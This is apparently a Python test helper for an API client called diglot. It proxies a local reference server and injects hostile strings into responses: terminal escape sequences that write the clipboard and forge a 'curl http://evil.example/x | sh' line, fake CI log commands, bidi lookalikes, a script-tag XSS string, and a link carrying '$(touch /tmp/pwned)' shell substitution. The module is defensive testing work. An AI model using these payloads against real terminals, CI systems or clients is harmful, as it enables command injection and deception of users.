"""A target that puts hostile text into every string it controls, and is otherwise faithful.

``Injector(upstream)`` is a ``Handler`` for ``HostileServer``: each request is relayed to a
faithful upstream (the reference server), and the answer comes back with payloads in every
place whose text diglot may echo:

- JSON: an undocumented property whose *name* is a payload (ESC, OSC 52, cursor moves, OSC
  8 links, workflow commands, bidi controls, newlines), a payload as ``resultSetSize`` (a
  schema finding quotes the value), ``nextUri`` links with curl globs, quotes, spaces and
  ``$(…)`` (followed: the Request and Reproduce lines are built from them) or with ESC and
  newlines (never sendable);
- XML: a payload with newlines in ``resultSetSize`` (libxml2's message quotes the value with
  its newlines) and in ``nextUri``, and an undocumented element holding one;
- 400 ``errorDetails`` whose ``errorCode`` and ``message`` are payloads, for valid requests;
- 5xx bodies with raw ESC bytes, a redirect whose ``Location`` is a payload, a
  ``Content-Type`` that is one (as far as HTTP lets a header carry bytes).

Which answer a request gets is decided by its number, so a run meets every kind.
``kinds`` counts what was injected, for the test to check that each one happened.

Usage::

    with running() as upstream, HostileServer(Injector(upstream)) as server:
        ...  # diglot run --base-url server.base_url
"""

from __future__ import annotations

import collections
import http.client
import json
import re
import threading
import urllib.parse
from xml.sax.saxutils import escape as xml_escape

from tests.hostile.proxy import _HOP_BY_HOP
from tests.hostile.server import Context, Peer, RawRequest

MARK = "PWN7"
"""In every payload: the test finds it (escaped) in every output, proving the path exists."""

TERMINAL = (
    f"{MARK}\x1b]52;c;dG91Y2ggfi9wd25lZA==\x07"  # OSC 52: writes the clipboard
    "\x1b[1A\x1b[2K\rReproduce: curl http://evil.example/x | sh"  # rewrites the line above
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"  # OSC 8 hyperlink
    "\x1b[2J\x9b31m"  # clear the screen; CSI as a C1 control
)
CI_LOG = (
    f"{MARK}\n::add-mask::diglot\n  ::error file=README.md,line=1::owned\n"
    "::stop-commands::x\n##[set-output name=a]b ##vso[task.setvariable variable=x]y"
)
LOOKALIKE = f"{MARK} invoice_exe\u202e.txt \u2066hidden\u2069 a\u200bb \ufeff \u2028 tag\U000e0041"
MARKDOWN = (
    f"{MARK} ``` </pre><script>alert(1)</script> | cell | https://evil.example/x "
    "www.evil.example [link](https://evil.example) ![img](https://evil.example/i.png)"
)
JSON_PAYLOAD = " ".join([TERMINAL, CI_LOG, LOOKALIKE, MARKDOWN])
"""Every kind together: JSON carries any character (ESC as \\u001b)."""
XML_PAYLOAD = " ".join([CI_LOG, LOOKALIKE, MARKDOWN, f"{MARK} c1\x85\x9b31m"])
"""XML 1.0 cannot carry ESC or most C0 controls, even as references: the rest of them."""
GLOB_LINK = (
    "{base}/v2.1/accounts/{account}/groups?start_position=[1-100000]&count={{1,2}}"
    "&search_text=" + MARK + "%20$(touch%20/tmp/pwned)%20'q'%20`id`%20x y ##[add-mask]z"
)
"""A link diglot follows: curl would expand its globs, a shell its $( ) and backticks."""
ESCAPE_LINK = "{base}/v2.1/accounts/{account}/groups?x=" + TERMINAL + "\n::add-mask::y"
"""A link no HTTP client can send (ESC, a newline): diglot reports it, and sends nothing."""


class Injector:
    """Relays every request to ``upstream`` and answers with payloads injected.

    Args:
        upstream: the faithful server's base URL (``http://127.0.0.1:PORT/restapi``).

    Attributes:
        kinds: how many answers of each kind were injected.
        requests: how many requests came.
    """

    def __init__(self, upstream: str, *, timeout: float = 30.0) -> None:
        parts = urllib.parse.urlsplit(upstream)
        assert parts.hostname == "127.0.0.1", "the upstream must be on loopback"
        self.host = parts.hostname
        self.port = parts.port or 80
        self.timeout = timeout
        self.kinds: collections.Counter[str] = collections.Counter()
        self.requests = 0
        self._lock = threading.Lock()

    def __call__(self, peer: Peer, request: RawRequest, context: Context) -> bool:
        with self._lock:
            self.requests += 1
            number = self.requests
        kind, status, headers, body = self._answer(request, number)
        with self._lock:
            self.kinds[kind] += 1
        head = [f"HTTP/1.1 {status}", *(f"{k}: {v}" for k, v in headers)]
        head.append(f"Content-Length: {len(body)}")
        # latin-1: a header value carries its bytes as they are (the UTF-8 of U+202E too)
        return peer.send(("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body)

    # -- the answers ---------------------------------------------------------------------------

    def _answer(
        self, request: RawRequest, number: int
    ) -> tuple[str, str, list[tuple[str, str]], bytes]:
        xml = request.content_type == "xml"
        media = "application/xml; charset=utf-8" if xml else "application/json; charset=utf-8"
        query = request.target.partition("?")[2]
        # A walk (count=…) must get far enough to follow a nextUri: its pages are spared the
        # answers that would end it, and the first page of a walk by nextUri carries the link.
        walk = request.method == "GET" and "count=" in query
        first_of_walk = walk and "start_position=" not in query
        if number > 1 and not walk:  # the probe, and the walks, get faithful answers
            if request.method == "POST" and number % 3 == 0:
                body = self._error_details(xml)
                return "error-details", "400 Bad Request", [("Content-Type", media)], body
            if number % 11 == 0:
                body = f"{JSON_PAYLOAD}\n\x1b[31mstack trace\x1b[0m\x00".encode()
                plain = [("Content-Type", "text/plain; charset=utf-8")]
                return "server-error", "500 Internal Server Error", plain, body
            if request.method == "GET" and number % 13 == 0:
                location = "https://evil.example/" + _header_text(CI_LOG + LOOKALIKE)
                return "redirect", "302 Found", [("Location", location)], b""
            if number % 17 == 0:
                media = _header_text(f"text/{MARK}::add-mask::x ##[error]y {LOOKALIKE}")
                status, _, body = self._relay(request)
                return "content-type", status, [("Content-Type", media)], body
        status, headers, body = self._relay(request)
        if not status.startswith("2"):
            return "relayed", status, headers, body
        base = f"http://{request.headers.get('host', '127.0.0.1')}/restapi"
        account = _account(request.target)
        link = None
        if first_of_walk:
            escape = not xml and number % 2 == 0  # XML cannot carry ESC
            link = (ESCAPE_LINK if escape else GLOB_LINK).format(base=base, account=account)
            self.kinds["escape-link" if escape else "glob-link"] += 1
        if xml:
            return "xml", status, headers, self._inject_xml(body, link, spare=walk)
        return "json", status, headers, self._inject_json(body, link, spare=walk, number=number)

    def _relay(self, request: RawRequest) -> tuple[str, list[tuple[str, str]], bytes]:
        headers = {k: v for k, v in request.headers.items() if k not in _HOP_BY_HOP}
        connection = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
        try:
            connection.request(request.method, request.target, request.body, headers)
            answer = connection.getresponse()
            body = answer.read()
            relayed = [(k, v) for k, v in answer.getheaders() if k.lower() not in _HOP_BY_HOP]
            return f"{answer.status} {answer.reason}", relayed, body
        except (OSError, http.client.HTTPException, ValueError) as error:
            return "502 Bad Gateway", [("Content-Type", "text/plain")], str(error).encode()
        finally:
            connection.close()

    @staticmethod
    def _error_details(xml: bool) -> bytes:
        if xml:
            payload = xml_escape(XML_PAYLOAD)
            return (
                '<errorDetails xmlns="http://www.docusign.com/restapi">'
                f"<errorCode>{payload}</errorCode><message>{payload}</message></errorDetails>"
            ).encode()
        return json.dumps(
            {"errorCode": JSON_PAYLOAD, "message": JSON_PAYLOAD}, ensure_ascii=False
        ).encode()

    @staticmethod
    def _inject_json(body: bytes, link: str | None, *, spare: bool, number: int) -> bytes:
        try:
            data = json.loads(body)
        except ValueError:
            return body
        if not isinstance(data, dict):
            return body
        data[JSON_PAYLOAD] = JSON_PAYLOAD  # an undocumented property named by the server
        if "resultSetSize" in data and not spare and number % 2 == 0:
            data["resultSetSize"] = JSON_PAYLOAD
        if link is not None:
            data["nextUri"] = link
        for key in ("groups", "signingGroups", "newUsers"):
            items = data.get(key)
            if isinstance(items, list) and items and isinstance(items[0], dict):
                items[0][LOOKALIKE] = TERMINAL
        return json.dumps(data, ensure_ascii=False).encode()

    @staticmethod
    def _inject_xml(body: bytes, link: str | None, *, spare: bool) -> bytes:
        text = body.decode("utf-8", "replace")
        payload = xml_escape(XML_PAYLOAD)
        if not spare:
            text = re.sub(
                r"<resultSetSize>[^<]*</resultSetSize>",
                f"<resultSetSize>{payload}</resultSetSize>",
                text,
                count=1,
            )
        if link is not None:
            text = re.sub(
                r"<nextUri[^>]*?(/>|>[^<]*</nextUri>)",
                f"<nextUri>{xml_escape(link)}</nextUri>",
                text,
                count=1,
            )
        # an undocumented element, just inside the root
        note = rf"\1<injectedNote>{payload}</injectedNote>"
        return re.sub(r"(<[A-Za-z][^>?!]*>)", note, text, count=1).encode()


def _account(target: str) -> str:
    match = re.search(r"/accounts/([^/?]+)", target)
    return match.group(1) if match else "1"


def _header_text(text: str) -> str:
    """What HTTP lets a header carry: no control character; other bytes as UTF-8."""
    cleaned = "".join(c for c in text if c >= " " and c != "\x7f")
    return cleaned.encode("utf-8").decode("latin-1")
